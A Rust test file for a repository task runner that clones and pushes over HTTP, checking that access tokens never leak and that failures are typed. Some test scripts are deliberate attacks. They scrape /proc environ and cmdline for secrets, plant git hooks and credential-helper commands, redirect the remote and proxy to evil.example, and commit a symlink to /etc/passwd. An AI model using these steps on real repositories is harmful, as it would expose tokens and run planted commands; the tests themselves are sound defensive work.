//! Repositories that are elsewhere: cloned and pushed over HTTP, with a token that nobody sees.

use crate::githost::{GitHost, Mood};
use crate::stage::{Stage, assert_succeeded, git, kind, runtime, until};
use async_trait::async_trait;
use protocol::{ResultStatus, Source, SpawnRequest};
use spawner::{GitToken, GitTokens, HostToken, TokenError};
use std::io::Write;
use std::path::Path;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;
use url::Url;

const CANARY: &str = "ghs-canary-4711";
const COMMIT: &str = "echo hello > hello.txt && git add -A && git commit -q -m 'Add hello'";

/// A code host with the stage's repository, and a stage that has its token.
async fn elsewhere() -> (GitHost, Stage) {
    let folder = tempfile::tempdir().unwrap();
    let (runtime, cleanup) = runtime(&folder.path().join("home")).await;
    let stage = Stage::tuned(folder, runtime, cleanup, [], |options| {
        options.git_patience = Duration::from_secs(20);
        options.tokens = Arc::new(Late::default());
    })
    .await;
    let host = GitHost::start(stage.folder.path(), CANARY).await;
    LATE.with(|late| {
        let token = HostToken::github(&host.url, CANARY.to_owned()).unwrap();
        *late.lock().unwrap() = Some(Arc::new(token));
    });
    (host, stage)
}

thread_local! {
    /// The tokens of this test, which are known when its host has an address.
    static LATE: Mutex<Option<Arc<dyn GitTokens>>> = const { Mutex::new(None) };
}

/// Mints what [`LATE`] does by now. Each test has a thread and a runtime of its own.
#[derive(Default)]
struct Late {
    minted: AtomicUsize,
}

#[async_trait]
impl GitTokens for Late {
    async fn mint(&self, repository: &Url) -> Result<Option<GitToken>, TokenError> {
        self.minted.fetch_add(1, Ordering::SeqCst);
        let tokens = LATE.with(|late| late.lock().unwrap().clone());
        tokens.expect("the test has tokens").mint(repository).await
    }
}

fn give(tokens: impl GitTokens + 'static) {
    LATE.with(|late| *late.lock().unwrap() = Some(Arc::new(tokens)));
}

fn at(host: &GitHost, mut request: SpawnRequest) -> SpawnRequest {
    request.repository.source = Source::CloneUrl(format!("{}/repository.git", host.url));
    request
}

/// Every file below a folder.
fn files(folder: &Path) -> Vec<(std::path::PathBuf, std::fs::Metadata)> {
    let mut found = Vec::new();
    let mut folders = vec![folder.to_owned()];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(&folder).unwrap() {
            let path = entry.unwrap().path();
            let meta = std::fs::symlink_metadata(&path).unwrap();
            if meta.is_dir() {
                folders.push(path);
            } else {
                found.push((path, meta));
            }
        }
    }
    found
}

/// The same, by device and number.
fn inodes(folder: &Path) -> std::collections::HashSet<(u64, u64)> {
    use std::os::unix::fs::MetadataExt as _;
    let files = files(folder).into_iter();
    files.map(|(_, meta)| (meta.dev(), meta.ino())).collect()
}

/// The mirrors of a home.
fn mirrors(stage: &Stage) -> Vec<std::path::PathBuf> {
    let all = std::fs::read_dir(stage.home().join("mirrors")).unwrap();
    all.map(|entry| entry.unwrap().path())
        .filter(|path| path.extension().is_some_and(|end| end == "git"))
        .collect()
}

/// A task of its own that works on the repository at the host.
fn another(stage: &Stage, host: &GitHost, id: &str) -> SpawnRequest {
    let mut request = at(host, stage.script(id, 1, COMMIT));
    request.task_id = id.into();
    request.repository.branch = format!("task/{id}");
    request
}

#[tokio::test]
async fn tasks_of_one_repository_share_a_mirror_and_no_worker_has_a_file_of_it() {
    let (host, stage) = elsewhere().await;
    let ids = ["a", "b", "c"];
    for id in ids {
        stage.submit(&another(&stage, &host, id)).await;
    }
    for id in ids {
        assert_succeeded(&stage.result(id).await);
        let file = git(&stage.bare(), &["show", &format!("task/{id}:hello.txt")]);
        assert_eq!(file, "hello\n");
    }
    let mirrors = mirrors(&stage);
    assert_eq!(mirrors.len(), 1, "{mirrors:?}");
    let (ours, theirs) = (
        inodes(&mirrors[0]),
        inodes(&stage.home().join("workspaces")),
    );
    assert!(ours.len() > 3 && theirs.len() > 3);
    assert_eq!(ours.intersection(&theirs).count(), 0, "nothing is linked");
}

#[tokio::test]
async fn a_mirror_that_is_broken_is_made_again() {
    let (host, stage) = elsewhere().await;
    assert_succeeded(&stage.run(&another(&stage, &host, "first")).await);
    let mirror = mirrors(&stage).remove(0);
    // Rubbish instead of all files; then packs whose index is right and whose content is not.
    for (id, only_packs) in [("second", false), ("third", true)] {
        let mut broken = 0;
        let mut folders = vec![mirror.join("objects")];
        while let Some(folder) = folders.pop() {
            for entry in std::fs::read_dir(&folder).unwrap() {
                let path = entry.unwrap().path();
                let is_pack = path.extension().is_some_and(|end| end == "pack");
                if path.is_dir() {
                    folders.push(path);
                } else if is_pack || !only_packs {
                    let length = std::fs::metadata(&path).unwrap().len();
                    // Git's own files are read-only.
                    std::fs::remove_file(&path).unwrap();
                    let rubbish = if only_packs { length } else { 3 };
                    std::fs::write(&path, "x".repeat(rubbish.try_into().unwrap())).unwrap();
                    broken += 1;
                }
            }
        }
        assert!(broken > 0);
        assert_succeeded(&stage.run(&another(&stage, &host, id)).await);
        assert_eq!(mirrors(&stage), std::slice::from_ref(&mirror));
        git(&mirror, &["rev-list", "--objects", "--all"]);
    }
}

#[tokio::test]
async fn a_host_that_is_down_costs_no_mirror() {
    let (host, stage) = elsewhere().await;
    assert_succeeded(&stage.run(&another(&stage, &host, "first")).await);
    let mirror = mirrors(&stage).remove(0);
    std::fs::write(mirror.join("kept"), "").unwrap();
    host.set_mood(Mood::Answers(503));
    let refused = stage.run(&another(&stage, &host, "second")).await;
    assert_eq!(kind(&refused), spawner::kind::REMOTE_DOWN);
    host.set_mood(Mood::Fine);
    assert_succeeded(&stage.run(&another(&stage, &host, "third")).await);
    assert!(mirror.join("kept").exists(), "it is the same one");
}

/// Every file below a folder that holds this text.
fn holding(folder: &Path, text: &str) -> Vec<String> {
    let mut found = Vec::new();
    for (path, _) in files(folder).iter().filter(|(_, meta)| meta.is_file()) {
        let bytes = std::fs::read(path).unwrap();
        let mut parts = bytes.windows(text.len());
        if parts.any(|part| part == text.as_bytes()) {
            found.push(path.display().to_string());
        }
    }
    found
}

#[derive(Clone, Default)]
struct Log(Arc<Mutex<Vec<u8>>>);

impl Write for Log {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[tokio::test]
async fn a_task_is_cloned_and_pushed_over_http_with_a_token_that_nobody_sees() {
    let log = Log::default();
    let writer = log.clone();
    let subscriber = tracing_subscriber::fmt()
        .with_max_level(tracing_subscriber::filter::LevelFilter::TRACE)
        .with_writer(move || writer.clone())
        .finish();
    let _logged = tracing_subscriber::util::SubscriberInitExt::set_default(subscriber);
    let (host, stage) = elsewhere().await;
    let script = format!(
        "env > env.txt; cat /proc/*/environ /proc/*/cmdline > procs.txt 2>/dev/null || true; cat .git/config > config.txt; git remote -v > remotes.txt; {COMMIT}"
    );
    let result = stage.run(&at(&host, stage.script("r1", 1, &script))).await;
    assert_succeeded(&result);
    assert_eq!(result.head_sha, stage.pushed(), "it is on the host");
    assert_eq!(stage.show("hello.txt"), "hello\n");

    let visits = host.visits();
    assert!(
        visits
            .iter()
            .any(|visit| visit.password.as_deref() == Some(CANARY))
    );
    let pushes = visits
        .iter()
        .position(|visit| visit.path.ends_with("/git-receive-pack"))
        .expect("a push");
    assert!(
        visits[pushes + 1..]
            .iter()
            .any(|visit| visit.path.ends_with("/git-upload-pack")),
        "the host was asked afterwards what it has"
    );
    assert_eq!(host.seen_in_arguments(), [""; 0]);
    assert_eq!(holding(stage.folder.path(), CANARY), [""; 0]);
    for file in ["env.txt", "procs.txt", "config.txt"] {
        assert!(!stage.show(file).contains(CANARY), "{file}");
    }
    assert_eq!(stage.show("remotes.txt"), "", "the workspace knows no host");
    let events = format!("{:?} {result:?}", stage.events("r1").await);
    assert!(!events.contains(CANARY));
    let text = String::from_utf8(log.0.lock().unwrap().clone()).unwrap();
    assert!(text.contains("ended: succeeded"), "the log was listened to");
    assert!(!text.contains(CANARY));
}

#[tokio::test]
async fn the_next_attempt_goes_on_and_every_command_has_a_token_of_its_own() {
    let (host, stage) = elsewhere().await;
    assert_succeeded(&stage.run(&at(&host, stage.script("r1", 1, COMMIT))).await);
    let first = stage.pushed();
    // The token that was good a moment ago has expired; the mint has another one.
    host.set_password("ghs-canary-4712");
    give(HostToken::github(&host.url, "ghs-canary-4712".to_owned()).unwrap());
    let more = "test -f hello.txt; echo more > more.txt; git add more.txt; git commit -qm More";
    let result = stage.run(&at(&host, stage.script("r2", 2, more))).await;
    assert_succeeded(&result);
    assert_ne!(stage.pushed(), first);
    assert_eq!(result.head_sha, stage.pushed());
}

#[tokio::test]
async fn a_workspace_of_a_remote_repository_is_trusted_no_more_than_another() {
    let (host, stage) = elsewhere().await;
    let canary = stage.folder.path().join("sprung");
    let trap = format!(
        "{COMMIT}; mkdir -p .git/hooks; printf '#!/bin/sh\\ntouch {0}\\n' > .git/hooks/pre-push; chmod +x .git/hooks/pre-push; git config core.hooksPath .git/hooks; git config credential.helper '!touch {0}'; git config core.sshCommand 'touch {0}'; git config url.https://evil.example/.insteadOf {1}/; git config http.proxy http://evil.example; git config remote.origin.url 'ext::touch {0}'",
        canary.display(),
        host.url
    );
    assert_succeeded(&stage.run(&at(&host, stage.script("r1", 1, &trap))).await);
    assert!(!canary.exists());
    let pushed = stage.pushed();
    for (n, (script, expected)) in (2..).zip([
        (
            "git commit -q --amend -m Other".to_owned(),
            spawner::kind::REWRITTEN_HISTORY,
        ),
        (
            "git reset -q --hard HEAD@{1} 2>/dev/null || true; ln -sfn /etc/passwd link; git add link; git commit -qm Link".to_owned(),
            spawner::kind::CONTENT_REFUSED,
        ),
    ]) {
        let request = at(&host, stage.script(&format!("r{n}"), n, &script));
        assert_eq!(kind(&stage.run(&request).await), expected, "{script}");
        assert_eq!(stage.pushed(), pushed, "nothing was pushed");
    }
}

#[tokio::test]
async fn what_is_wrong_with_a_remote_repository_is_typed_and_says_who_can_mend_it() {
    let (host, stage) = elsewhere().await;
    let failed = async |n: u32, change: &dyn Fn(&mut SpawnRequest)| {
        let mut request = at(&host, stage.script(&format!("r{n}"), n, COMMIT));
        change(&mut request);
        let result = stage.run(&request).await;
        assert_eq!(result.status, ResultStatus::Failed, "{result:?}");
        let failure = result.failure.unwrap();
        assert!(!failure.evidence.contains(CANARY), "{failure:?}");
        (failure.kind, failure.message)
    };
    let same = &|_: &mut SpawnRequest| {};

    host.set_password("another");
    let (kind, message) = failed(1, same).await;
    assert_eq!(kind, spawner::kind::ACCESS_DENIED);
    assert!(
        message.contains("an admin") && message.contains("GITHUB_TOKEN"),
        "{message}"
    );
    host.set_password(CANARY);

    give(spawner::NoTokens);
    assert_eq!(failed(2, same).await.0, spawner::kind::ACCESS_DENIED);
    give(Refuses);
    assert_eq!(failed(3, same).await.0, spawner::kind::ACCESS_DENIED);
    give(HostToken::github(&host.url, CANARY.to_owned()).unwrap());

    let missing = |request: &mut SpawnRequest| {
        request.repository.source = Source::CloneUrl(format!("{}/nothing.git", host.url));
    };
    let (kind, message) = failed(4, &missing).await;
    assert_eq!(kind, spawner::kind::REPOSITORY_MISSING);
    assert!(message.contains("owner"), "{message}");

    let base = |request: &mut SpawnRequest| {
        request.repository.base_sha = "0123456789012345678901234567890123456789".to_owned();
    };
    let (kind, message) = failed(5, &base).await;
    assert_eq!(kind, spawner::kind::BASE_MISSING);
    assert!(message.contains("owner"), "{message}");

    host.set_mood(Mood::Answers(503));
    let (kind, message) = failed(6, same).await;
    assert_eq!(kind, spawner::kind::REMOTE_DOWN);
    assert!(message.contains("tried again"), "{message}");

    // A redirect could lead the token to another host.
    let thief = GitHost::start(stage.folder.path(), CANARY).await;
    host.set_mood(Mood::Redirects(thief.url.clone()));
    assert_eq!(failed(7, same).await.0, spawner::kind::REPOSITORY_MISSING);
    assert!(thief.visits().is_empty(), "{:?}", thief.visits());
    host.set_mood(Mood::Fine);

    let gone = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let nobody = gone.local_addr().unwrap();
    drop(gone);
    let down = |request: &mut SpawnRequest| {
        request.repository.source = Source::CloneUrl(format!("http://{nobody}/repository.git"));
    };
    give(spawner::NoTokens);
    assert_eq!(failed(8, &down).await.0, spawner::kind::REMOTE_DOWN);
    give(HostToken::github(&host.url, CANARY.to_owned()).unwrap());

    host.set_mood(Mood::ReadOnly);
    let (kind, message) = failed(9, same).await;
    assert_eq!(kind, spawner::kind::ACCESS_DENIED);
    assert!(message.contains("write"), "{message}");
    host.set_mood(Mood::Fine);
    // And when all is well again, the work of the attempt that could not push is still there.
    let request = at(&host, stage.script("r10", 10, "test -f hello.txt"));
    assert_succeeded(&stage.run(&request).await);
    assert_eq!(stage.show("hello.txt"), "hello\n");
}

struct Refuses;

#[async_trait]
impl GitTokens for Refuses {
    async fn mint(&self, repository: &Url) -> Result<Option<GitToken>, TokenError> {
        Err(TokenError {
            host: repository.host_str().unwrap_or_default().to_owned(),
            reason: "the app is not installed there".to_owned(),
            retryable: false,
        })
    }
}

#[tokio::test]
async fn a_host_that_never_answers_is_given_up_within_its_bound() {
    let folder = tempfile::tempdir().unwrap();
    let (runtime, cleanup) = runtime(&folder.path().join("home")).await;
    let stage = Stage::tuned(folder, runtime, cleanup, [], |options| {
        options.git_patience = Duration::from_secs(1);
    })
    .await;
    let host = GitHost::start(stage.folder.path(), CANARY).await;
    host.set_mood(Mood::Silent);
    let result = stage.run(&at(&host, stage.script("r1", 1, COMMIT))).await;
    assert_eq!(kind(&result), spawner::kind::REMOTE_DOWN);
    let failure = result.failure.unwrap();
    let bounded = ["did not end within 1 s", "too slow"];
    assert!(
        bounded.iter().any(|words| failure.evidence.contains(words)),
        "{failure:?}"
    );
    // Nobody is left who still waits for it.
    let alone = async || {
        let left = std::fs::read_dir("/proc").unwrap().flatten().any(|entry| {
            let line = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
            String::from_utf8_lossy(&line).contains(&host.url)
        });
        (!left).then_some(())
    };
    until(alone).await;
}

#[tokio::test]
async fn a_branch_that_somebody_else_moved_meanwhile_is_not_overwritten() {
    let (host, stage) = elsewhere().await;
    let script =
        format!("{COMMIT}; touch .artel/ready; while [ ! -e .artel/go ]; do sleep 0.05; done");
    stage
        .submit(&at(&host, stage.script("r1", 1, &script)))
        .await;
    let ready = stage.workspace().join(".artel/ready");
    until(async || ready.exists().then_some(())).await;
    let author = stage.folder.path().join("author");
    git(&author, &["checkout", "-q", "-b", "theirs"]);
    std::fs::write(author.join("theirs.txt"), "theirs\n").unwrap();
    git(&author, &["add", "."]);
    git(&author, &["commit", "-q", "-m", "Theirs"]);
    let bare = stage.bare();
    git(
        &author,
        &["push", "-q", bare.to_str().unwrap(), "theirs:task/one"],
    );
    let theirs = stage.pushed();
    std::fs::write(stage.workspace().join(".artel/go"), "").unwrap();
    let result = stage.result("r1").await;
    assert_eq!(kind(&result), spawner::kind::BRANCH_MOVED);
    let failure = result.failure.unwrap();
    assert!(
        failure.evidence.contains(theirs.as_deref().unwrap()),
        "{failure:?}"
    );
    assert!(failure.message.contains("next attempt"), "{failure:?}");
    assert_eq!(stage.pushed(), theirs, "theirs stands");

    // The next attempt stands on what is there, with the other work still in the workspace's history.
    let again =
        "test -f theirs.txt; echo again > again.txt; git add again.txt; git commit -qm Again";
    let result = stage.run(&at(&host, stage.script("r2", 2, again))).await;
    assert_succeeded(&result);
    assert_eq!(stage.show("theirs.txt"), "theirs\n");
}

#[tokio::test]
async fn a_base_that_is_on_no_branch_any_more_is_asked_for_by_its_name() {
    let (host, stage) = elsewhere().await;
    let bare = stage.bare();
    let tree = git(&bare, &["rev-parse", "main^{tree}"]);
    let loose = git(
        &bare,
        &["commit-tree", "-p", "main", "-m", "Loose", tree.trim()],
    );
    let mut request = at(&host, stage.script("r1", 1, COMMIT));
    loose.trim().clone_into(&mut request.repository.base_sha);
    assert_succeeded(&stage.run(&request).await);
    let parent = git(&bare, &["rev-parse", "task/one^"]);
    assert_eq!(parent, loose);
}
